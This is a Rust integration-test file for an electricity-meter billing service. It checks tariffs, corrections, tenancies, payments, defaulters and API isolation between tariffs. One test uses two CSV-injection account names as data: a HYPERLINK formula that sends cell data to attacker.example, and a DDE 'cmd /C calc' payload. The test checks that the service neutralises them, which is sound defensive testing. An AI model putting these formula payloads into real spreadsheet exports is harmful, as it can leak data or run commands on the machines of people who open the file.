//! Billing runs against the real PostgreSQL of the dev services: readings
//! in, bills out, re-runs, corrections, resets, a tenant change mid-month,
//! payments and defaulters. (The on-demand reads through a real gateway and
//! simulated meters are in system-tests/tests/billing.rs.)

use std::collections::HashMap;
use std::sync::Arc;

use chrono::{DateTime, Duration, NaiveDate, TimeZone, Utc};
use fleetward_billing::api::{self, Api};
use fleetward_billing::bill::Period;
use fleetward_billing::db::{self, Reading};
use fleetward_billing::fleet::Meter;
use fleetward_billing::metrics::Metrics;
use fleetward_billing::run::{self, Job};
use fleetward_billing::service::Service;
use fleetward_billing::store::{self, BillFilter};
use fleetward_testkit::{env, unique};
use rust_decimal::Decimal;
use serde_json::json;
use sqlx::PgPool;

fn d(s: &str) -> Decimal {
    s.parse().unwrap()
}

async fn pool() -> PgPool {
    let pool = db::connect(&env("DATABASE_URL"), 4).await.expect("the dev PostgreSQL");
    db::migrate(&pool).await.unwrap();
    pool
}

const NOV: &str = "2026-11";

fn at(day: u32, hour: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, day, hour, 0, 0).unwrap()
}

fn reading(ns: &str, device: &str, t: DateTime<Utc>, kwh: &str) -> Reading {
    Reading {
        namespace: ns.into(),
        device_id: device.into(),
        message_id: format!("{device}-{}", t.timestamp()),
        device_time: t,
        received_at: t + Duration::seconds(1),
        kwh: d(kwh),
        reply_to: None,
    }
}

fn meter(id: &str, property: &str, owner: &str) -> Meter {
    Meter {
        device_id: id.into(),
        property: property.into(),
        owner: owner.into(),
    }
}

async fn bill_nov(pool: &PgPool, ns: &str, meters: &[Meter], metrics: &Metrics) -> store::RunRow {
    bill_nov_for(pool, ns, "residential", meters, metrics).await
}

async fn bill_nov_for(pool: &PgPool, ns: &str, tariff: &str, meters: &[Meter], metrics: &Metrics) -> store::RunRow {
    let rates = fleetward_billing::bill::examples::residential();
    run::run(Job {
        pool,
        namespace: ns,
        tariff,
        rates: &rates,
        meters,
        period: Period::parse(NOV).unwrap(),
        trigger: "test",
        gateway: None,
        read_timeout: std::time::Duration::from_secs(1),
        read_concurrency: 4,
        metrics,
    })
    .await
    .unwrap()
    .row
}

async fn bills(pool: &PgPool, ns: &str, all_revisions: bool) -> HashMap<(String, String), Vec<store::BillView>> {
    let f = BillFilter {
        all_revisions,
        ..Default::default()
    };
    let mut out: HashMap<_, Vec<_>> = HashMap::new();
    for b in store::bills(pool, ns, &f).await.unwrap() {
        out.entry((b.device_id.clone(), b.account_id.clone()))
            .or_default()
            .push(b);
    }
    out
}

#[tokio::test]
async fn a_month_is_billed_to_the_cent_and_a_rerun_changes_nothing() {
    let pool = pool().await;
    let ns = unique("bill");
    let metrics = Metrics::default();
    // m-boundary: 1000 → 1100 (exactly 100 kWh, on the slab boundary);
    // m-zero: no change; m-multi: 5000 → 5437.5 over several readings,
    // with the baseline in October; m-reset: 200 → 260, reset to 0, → 15
    // (60 + 15 = 75 kWh, flagged).
    let mut rows = vec![
        reading(&ns, "m-boundary", at(1, 0) - Duration::hours(2), "1000"),
        reading(&ns, "m-boundary", at(15, 12), "1050.5"),
        reading(&ns, "m-boundary", at(30, 23), "1100"),
        reading(&ns, "m-zero", at(2, 0), "42"),
        reading(&ns, "m-zero", at(29, 0), "42"),
        reading(
            &ns,
            "m-multi",
            Utc.with_ymd_and_hms(2026, 10, 30, 0, 0, 0).unwrap(),
            "5000",
        ),
        reading(&ns, "m-reset", at(1, 1), "200"),
        reading(&ns, "m-reset", at(10, 0), "260"),
        reading(&ns, "m-reset", at(11, 0), "0"),
        reading(&ns, "m-reset", at(20, 0), "15"),
        // December readings do not count for November.
        reading(
            &ns,
            "m-boundary",
            Utc.with_ymd_and_hms(2026, 12, 2, 0, 0, 0).unwrap(),
            "1300",
        ),
    ];
    for (i, kwh) in ["5100", "5250", "5300", "5437.5"].iter().enumerate() {
        rows.push(reading(&ns, "m-multi", at(5 + 5 * i as u32, 6), kwh));
    }
    assert_eq!(db::insert_readings(&pool, &rows).await.unwrap(), rows.len() as u64);
    // Kafka re-delivers: nothing is stored twice.
    assert_eq!(db::insert_readings(&pool, &rows).await.unwrap(), 0);

    let meters = [
        meter("m-boundary", "p-1", "acct-a"),
        meter("m-zero", "p-2", "acct-b"),
        meter("m-multi", "p-3", "acct-c"),
        meter("m-reset", "p-4", "acct-d"),
        meter("m-silent", "p-5", "acct-e"),
    ];
    let first = bill_nov(&pool, &ns, &meters, &metrics).await;
    assert_eq!((first.bills, first.unchanged, first.estimated), (4, 0, 4), "{first:?}");
    let got = bills(&pool, &ns, false).await;
    let total = |dev: &str, acct: &str| got[&(dev.to_string(), acct.to_string())][0].total.clone();
    // The golden figures of bill::tests, now through the database.
    assert_eq!(total("m-boundary", "acct-a"), "16.46");
    assert_eq!(total("m-zero", "acct-b"), "2.84");
    assert_eq!(total("m-multi", "acct-c"), "96.34");
    let reset = &got[&("m-reset".to_string(), "acct-d".to_string())][0];
    assert_eq!(reset.units, "75");
    assert_eq!(reset.meter_resets, 1);
    // 75 · 0.12 = 9.00 + 2.50 = 11.50; VAT 1.5525 → 1.55; 13.05.
    assert_eq!(reset.total, "13.05");
    assert!(got.keys().all(|(dev, _)| dev != "m-silent"), "no reading, no bill");
    assert_eq!(first.total, Some(d("128.69")));

    // The same period again: nothing new.
    let again = bill_nov(&pool, &ns, &meters, &metrics).await;
    assert_eq!((again.bills, again.unchanged), (0, 4));
    assert_eq!(bills(&pool, &ns, true).await.values().map(Vec::len).sum::<usize>(), 4);

    // A late reading arrives for m-zero: the re-run is a correction, a new
    // revision; the old one is kept, superseded.
    db::insert_readings(&pool, &[reading(&ns, "m-zero", at(29, 12), "52")])
        .await
        .unwrap();
    let corrected = bill_nov(&pool, &ns, &meters, &metrics).await;
    assert_eq!((corrected.bills, corrected.unchanged), (1, 3));
    let all = bills(&pool, &ns, true).await;
    let revs = &all[&("m-zero".to_string(), "acct-b".to_string())];
    assert_eq!(
        revs.iter().map(|b| (b.revision, b.superseded)).collect::<Vec<_>>(),
        [(1, true), (2, false)]
    );
    // 10 kWh: 1.20 + 2.50 = 3.70; VAT 0.4995 → 0.50; 4.20.
    assert_eq!(revs[1].total, "4.20");
}

#[tokio::test]
async fn a_tenant_change_mid_month_bills_each_holder_for_their_days() {
    let pool = pool().await;
    let ns = unique("tenancy");
    let metrics = Metrics::default();
    for (id, name) in [
        ("owner", "Owner"),
        ("tenant-1", "First Tenant"),
        ("tenant-2", "Second Tenant"),
    ] {
        assert!(
            store::create_account(&pool, &ns, "residential", id, name, None)
                .await
                .unwrap()
        );
    }
    let day = |n| NaiveDate::from_ymd_opt(2026, 11, n).unwrap();
    // tenant-1 leaves on the 11th, tenant-2 arrives on the 21st: the owner
    // holds the 11th to the 20th.
    let t1 = store::add_tenancy(
        &pool,
        &ns,
        "residential",
        "flat-9",
        "tenant-1",
        day(1) - chrono::Days::new(90),
        None,
    )
    .await
    .unwrap()
    .unwrap();
    store::end_tenancy(&pool, &ns, "residential", t1.id, day(11))
        .await
        .unwrap()
        .unwrap();
    store::add_tenancy(&pool, &ns, "residential", "flat-9", "tenant-2", day(21), None)
        .await
        .unwrap()
        .unwrap();
    // An overlapping tenancy is refused.
    assert!(matches!(
        store::add_tenancy(&pool, &ns, "residential", "flat-9", "owner", day(25), None)
            .await
            .unwrap(),
        Err(store::TenancyRefused::Overlaps(_))
    ));
    let rows = [
        reading(&ns, "m9", at(1, 0), "0"),
        reading(&ns, "m9", at(10, 20), "100"),
        reading(&ns, "m9", at(20, 20), "130"),
        reading(&ns, "m9", at(30, 20), "180"),
    ];
    db::insert_readings(&pool, &rows).await.unwrap();
    let run = bill_nov(&pool, &ns, &[meter("m9", "flat-9", "owner")], &metrics).await;
    assert_eq!(run.bills, 3);
    let got = bills(&pool, &ns, false).await;
    let b = |acct: &str| got[&("m9".to_string(), acct.to_string())][0].clone();
    // tenant-1, 1st-10th (10 days): 100 kWh = 12.00; rent 2.50 · 10/30 =
    // 0.8333 → 0.83; VAT 13.5% of 12.83 = 1.732 → 1.73; 14.56.
    assert_eq!(
        (b("tenant-1").units.as_str(), b("tenant-1").total.as_str()),
        ("100", "14.56")
    );
    assert_eq!(b("tenant-1").part_to, day(11));
    // owner, 11th-20th: 30 kWh = 3.60; rent 0.83; VAT 0.598 → 0.60; 5.03.
    assert_eq!((b("owner").units.as_str(), b("owner").total.as_str()), ("30", "5.03"));
    // tenant-2, 21st-30th: 50 kWh = 6.00; rent 0.83; VAT 0.922 → 0.92; 7.75.
    assert_eq!(
        (b("tenant-2").units.as_str(), b("tenant-2").total.as_str()),
        ("50", "7.75")
    );
    assert_eq!(b("tenant-2").account_name.as_deref(), Some("Second Tenant"));
}

#[tokio::test]
async fn payments_settle_bills_and_the_unpaid_become_defaulters() {
    let pool = pool().await;
    let ns = unique("pay");
    let metrics = Metrics::default();
    let rows = [
        reading(&ns, "ma", at(1, 0), "0"),
        reading(&ns, "ma", at(30, 0), "100"),
        reading(&ns, "mb", at(1, 0), "0"),
        reading(&ns, "mb", at(30, 0), "100"),
    ];
    db::insert_readings(&pool, &rows).await.unwrap();
    bill_nov(
        &pool,
        &ns,
        &[meter("ma", "pa", "alice"), meter("mb", "pb", "bob")],
        &metrics,
    )
    .await;
    let got = bills(&pool, &ns, false).await;
    let alice = got[&("ma".to_string(), "alice".to_string())][0].clone();
    let bob = got[&("mb".to_string(), "bob".to_string())][0].clone();
    assert_eq!((alice.total.as_str(), alice.status), ("16.46", "unpaid"));
    // Due 15 days after the month: 2026-12-16.
    assert_eq!(alice.due_date, NaiveDate::from_ymd_opt(2026, 12, 16).unwrap());

    // Part, then the rest, then more than the rest.
    store::pay(
        &pool,
        &ns,
        "residential",
        alice.id,
        d("10.00"),
        "card",
        &format!("{ns}-1"),
    )
    .await
    .unwrap()
    .unwrap();
    let a = store::bill(&pool, &ns, "residential", alice.id).await.unwrap().unwrap();
    assert_eq!((a.status, a.balance.as_str()), ("partially_paid", "6.46"));
    // The same reference again is not a second payment.
    assert!(
        store::pay(
            &pool,
            &ns,
            "residential",
            alice.id,
            d("10.00"),
            "card",
            &format!("{ns}-1")
        )
        .await
        .unwrap()
        .is_err()
    );
    store::pay(
        &pool,
        &ns,
        "residential",
        alice.id,
        d("6.46"),
        "upi",
        &format!("{ns}-2"),
    )
    .await
    .unwrap()
    .unwrap();
    assert_eq!(
        store::bill(&pool, &ns, "residential", alice.id)
            .await
            .unwrap()
            .unwrap()
            .status,
        "paid"
    );
    store::pay(&pool, &ns, "residential", bob.id, d("20"), "cash", &format!("{ns}-3"))
        .await
        .unwrap()
        .unwrap();
    let b = store::bill(&pool, &ns, "residential", bob.id).await.unwrap().unwrap();
    assert_eq!((b.status, b.balance.as_str()), ("overpaid", "-3.54"));

    // Before the due date nobody defaults; after it, only the unpaid.
    let before = store::defaulters(
        &pool,
        &ns,
        "residential",
        NaiveDate::from_ymd_opt(2026, 12, 16).unwrap(),
    )
    .await
    .unwrap();
    assert!(before.is_empty());
    let cm = store::bills(&pool, &ns, &BillFilter::default()).await.unwrap();
    assert_eq!(cm.len(), 2);
    // A third meter's bill stays unpaid.
    db::insert_readings(
        &pool,
        &[reading(&ns, "mc", at(1, 0), "0"), reading(&ns, "mc", at(2, 0), "437.5")],
    )
    .await
    .unwrap();
    bill_nov(
        &pool,
        &ns,
        &[
            meter("ma", "pa", "alice"),
            meter("mb", "pb", "bob"),
            meter("mc", "pc", "carol"),
        ],
        &metrics,
    )
    .await;
    let late = store::defaulters(&pool, &ns, "residential", NaiveDate::from_ymd_opt(2027, 1, 5).unwrap())
        .await
        .unwrap();
    assert_eq!(late.len(), 1, "{late:?}");
    assert_eq!(late[0].account_id, "carol");
    assert_eq!(late[0].amount_due, "96.34");
    assert_eq!(late[0].days_overdue, 20);
}

/// An account named like a spreadsheet formula (CSV injection): in the
/// period's CSV the name is text (a leading `'`), and amounts, negative
/// balances included, are numbers as before.
#[tokio::test]
async fn a_formula_in_a_name_is_text_in_the_bill_csv() {
    let pool = pool().await;
    let ns = unique("csv");
    let metrics = Metrics::default();
    let evil = r#"=HYPERLINK("http://attacker.example/?"&A1,"Pay here")"#;
    for (id, name) in [
        ("eve", evil),
        ("mallory", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("ok", "Plain Name"),
    ] {
        assert!(
            store::create_account(&pool, &ns, "residential", id, name, None)
                .await
                .unwrap()
        );
    }
    let rows = [
        reading(&ns, "m1", at(1, 0), "0"),
        reading(&ns, "m1", at(30, 0), "10"),
        reading(&ns, "m2", at(1, 0), "0"),
        reading(&ns, "m2", at(30, 0), "10"),
        reading(&ns, "m3", at(1, 0), "0"),
        reading(&ns, "m3", at(30, 0), "10"),
    ];
    db::insert_readings(&pool, &rows).await.unwrap();
    let meters = [
        meter("m1", "p1", "eve"),
        meter("m2", "p2", "mallory"),
        meter("m3", "p3", "ok"),
    ];
    bill_nov(&pool, &ns, &meters, &metrics).await;
    // Overpaid: a negative balance, which stays a number.
    let ok_bill = bills(&pool, &ns, false).await[&("m3".to_string(), "ok".to_string())][0].clone();
    store::pay(
        &pool,
        &ns,
        "residential",
        ok_bill.id,
        d("100"),
        "cash",
        &format!("{ns}-over"),
    )
    .await
    .unwrap()
    .unwrap();
    let all = store::bills(&pool, &ns, &BillFilter::default()).await.unwrap();
    let text = fleetward_billing::render::csv(&all).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let head = r.headers().unwrap().clone();
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let rows: HashMap<String, csv::StringRecord> = r
        .records()
        .map(|rec| rec.unwrap())
        .map(|rec| (rec[col("account_id")].to_string(), rec))
        .collect();
    assert_eq!(&rows["eve"][col("account_name")], format!("'{evil}"));
    assert!(rows["mallory"][col("account_name")].starts_with("'@SUM"));
    assert_eq!(&rows["ok"][col("account_name")], "Plain Name");
    assert!(rows["ok"][col("balance")].starts_with('-'), "{:?}", rows["ok"]);
}

/// A billing API of Tariff `tariff` in `ns`, served on a free port of
/// loopback: its base URL and key.
async fn serve_api(pool: &PgPool, ns: &str, tariff: &str) -> (String, String) {
    let service = Service::new(
        pool.clone(),
        fleetward_testkit::client().await,
        ns.into(),
        tariff.into(),
        None,
        Arc::new(Metrics::default()),
        4,
    );
    let key = format!("{tariff}-key-{}", "k".repeat(40));
    let api = Api::new(service, &key, 1000, 1000);
    let port = fleetward_testkit::free_port();
    let addr: std::net::SocketAddr = ([127, 0, 0, 1], port).into();
    tokio::spawn(api::serve(addr, api));
    fleetward_testkit::wait_port(port, 10);
    (format!("http://127.0.0.1:{port}/api/v1"), key)
}

/// One caller of a billing API.
struct Caller {
    http: reqwest::Client,
    base: String,
    key: String,
}

impl Caller {
    async fn send(&self, method: reqwest::Method, path: &str, body: Option<serde_json::Value>) -> (u16, String) {
        let mut req = self
            .http
            .request(method, format!("{}{path}", self.base))
            .bearer_auth(&self.key);
        if let Some(b) = body {
            req = req.json(&b);
        }
        let res = req.send().await.unwrap();
        (res.status().as_u16(), res.text().await.unwrap())
    }

    async fn get(&self, path: &str) -> (u16, String) {
        self.send(reqwest::Method::GET, path, None).await
    }

    async fn post(&self, path: &str, body: serde_json::Value) -> (u16, String) {
        self.send(reqwest::Method::POST, path, Some(body)).await
    }
}

/// Two Tariffs in one namespace, each with its billing API and key: the
/// holder of one Tariff's key tries every endpoint of its API on the other
/// Tariff's bills, payments, debtors, accounts, tenancies, payment
/// references and runs. Each is refused or shows nothing of the other's,
/// and the other Tariff's records are unchanged afterwards.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_tariffs_key_reaches_nothing_of_another_tariff_through_any_endpoint() {
    let pool = pool().await;
    let ns = unique("two-tariffs");
    let metrics = Metrics::default();
    db::insert_readings(
        &pool,
        &[
            reading(&ns, "ma", at(1, 0), "0"),
            reading(&ns, "ma", at(30, 0), "100"),
            reading(&ns, "mb", at(1, 0), "0"),
            reading(&ns, "mb", at(30, 0), "50"),
        ],
    )
    .await
    .unwrap();
    bill_nov_for(&pool, &ns, "residential", &[meter("ma", "pa", "alice")], &metrics).await;
    bill_nov_for(&pool, &ns, "commercial", &[meter("mb", "pb", "bob")], &metrics).await;
    let all = store::bills(&pool, &ns, &BillFilter::default()).await.unwrap();
    let of = |tariff: &str| {
        all.iter()
            .find(|b| b.tariff == tariff)
            .expect("a bill of each Tariff")
            .id
    };
    let (alice_bill, bob_bill) = (of("residential"), of("commercial"));
    let _ = rustls::crypto::ring::default_provider().install_default();
    let http = reqwest::Client::new();
    let (base, key) = serve_api(&pool, &ns, "residential").await;
    let owner = Caller {
        http: http.clone(),
        base,
        key,
    };
    let (base, key) = serve_api(&pool, &ns, "commercial").await;
    let other = Caller { http, base, key };

    // The residential Tariff's own records: an account, a tenancy, a payment.
    let (code, _) = owner
        .post("/accounts", json!({"id": "alice", "name": "Alice Owner"}))
        .await;
    assert_eq!(code, 201);
    let (code, t) = owner
        .post(
            "/tenancies",
            json!({"property": "pa", "account": "alice", "startsOn": "2026-01-01"}),
        )
        .await;
    assert_eq!(code, 201, "{t}");
    let tenancy: serde_json::Value = serde_json::from_str(&t).unwrap();
    let tenancy = tenancy["id"].as_i64().unwrap();
    let (code, _) = owner
        .post(
            &format!("/bills/{alice_bill}/payments"),
            json!({"amount": "1.00", "method": "card", "reference": "ref-1"}),
        )
        .await;
    assert_eq!(code, 201);
    let before = [
        owner.get("/accounts").await,
        owner.get("/tenancies").await,
        owner.get(&format!("/bills/{alice_bill}")).await,
    ];

    // The residential key on the commercial API: not its key.
    let wrong_key = Caller {
        http: other.http.clone(),
        base: other.base.clone(),
        key: owner.key.clone(),
    };
    assert_eq!(wrong_key.get("/bills").await.0, 401);

    // The commercial key, on everything of the residential Tariff.
    let (code, list) = other.get("/bills").await;
    assert_eq!(code, 200);
    assert!(
        !list.contains(&alice_bill.to_string()) && list.contains(&bob_bill.to_string()),
        "{list}"
    );
    let (code, csv) = other.get("/bills.csv?period=2026-11").await;
    assert_eq!(code, 200);
    assert!(!csv.contains("alice") && csv.contains("bob"), "{csv}");
    for path in ["", "/html", "/payments"] {
        let (code, body) = other.get(&format!("/bills/{alice_bill}{path}")).await;
        assert_eq!(code, 404, "GET /bills/<other Tariff's bill>{path}: {body}");
    }
    let (code, _) = other
        .post(
            &format!("/bills/{alice_bill}/payments"),
            json!({"amount": "99.00", "method": "cash", "reference": "ref-forged"}),
        )
        .await;
    assert_eq!(code, 404, "a payment towards another Tariff's bill");
    let (code, debtors) = other.get("/defaulters?asOf=2027-01-05").await;
    assert_eq!(code, 200);
    assert!(!debtors.contains("alice") && debtors.contains("bob"), "{debtors}");
    let (code, accounts) = other.get("/accounts").await;
    assert_eq!((code, accounts.as_str()), (200, "[]"));
    let (code, tenancies) = other.get("/tenancies").await;
    assert_eq!((code, tenancies.as_str()), (200, "[]"));
    let (code, _) = other
        .post(
            "/tenancies",
            json!({"property": "pa", "account": "alice", "startsOn": "2026-12-01"}),
        )
        .await;
    assert_eq!(code, 422, "a tenancy for another Tariff's account");
    let (code, _) = other
        .send(
            reqwest::Method::PATCH,
            &format!("/tenancies/{tenancy}"),
            Some(json!({"endsOn": "2026-02-01"})),
        )
        .await;
    assert_eq!(code, 404, "ending another Tariff's tenancy");
    // Its own account of the same id and a payment under the same
    // reference are its own: no conflict, nothing of the other's shown.
    let (code, _) = other
        .post("/accounts", json!({"id": "alice", "name": "Someone Else"}))
        .await;
    assert_eq!(code, 201);
    let (code, paid) = other
        .post(
            &format!("/bills/{bob_bill}/payments"),
            json!({"amount": "2.00", "method": "cash", "reference": "ref-1"}),
        )
        .await;
    assert_eq!(code, 201, "another Tariff's reference is not seen: {paid}");
    let (code, runs) = other.get("/runs").await;
    assert_eq!(code, 200);
    assert!(!runs.contains("residential") && runs.contains("commercial"), "{runs}");

    // The residential Tariff's records are as they were.
    let after = [
        owner.get("/accounts").await,
        owner.get("/tenancies").await,
        owner.get(&format!("/bills/{alice_bill}")).await,
    ];
    assert_eq!(before, after);
    assert!(after[0].1.contains("Alice Owner") && !after[0].1.contains("Someone Else"));
}

/// Accounts and tenancies written before they belonged to a Tariff (no
/// `tariff`): each Tariff's billing service adopts its own copy once, so a
/// namespace keeps its customers across the upgrade.
#[tokio::test]
async fn records_from_before_tariff_scoping_are_adopted_once_by_each_tariff() {
    let pool = pool().await;
    let ns = unique("adopt");
    sqlx::query("INSERT INTO fleetward_billing.accounts (namespace, id, name) VALUES ($1, 'carol', 'Carol')")
        .bind(&ns)
        .execute(&pool)
        .await
        .unwrap();
    sqlx::query(
        "INSERT INTO fleetward_billing.tenancies (namespace, property, account_id, starts_on) \
         VALUES ($1, 'pc', 'carol', '2026-01-01')",
    )
    .bind(&ns)
    .execute(&pool)
    .await
    .unwrap();
    for tariff in ["residential", "commercial"] {
        assert_eq!(
            store::adopt_namespace_records(&pool, &ns, tariff).await.unwrap(),
            (1, 1)
        );
        assert_eq!(
            store::adopt_namespace_records(&pool, &ns, tariff).await.unwrap(),
            (0, 0)
        );
        let accounts = store::accounts(&pool, &ns, tariff).await.unwrap();
        assert_eq!(accounts.iter().map(|a| a.id.as_str()).collect::<Vec<_>>(), ["carol"]);
        let t = store::tenancy_list(&pool, &ns, tariff, None).await.unwrap();
        assert_eq!((t.len(), t[0].property.as_str()), (1, "pc"));
    }
    // Each has its own: one Tariff ending its tenancy leaves the other's.
    let t = store::tenancy_list(&pool, &ns, "residential", None).await.unwrap()[0].id;
    let day = NaiveDate::from_ymd_opt(2026, 6, 1).unwrap();
    store::end_tenancy(&pool, &ns, "residential", t, day)
        .await
        .unwrap()
        .unwrap();
    let other = store::tenancy_list(&pool, &ns, "commercial", None).await.unwrap();
    assert_eq!(other[0].ends_on, None);
}
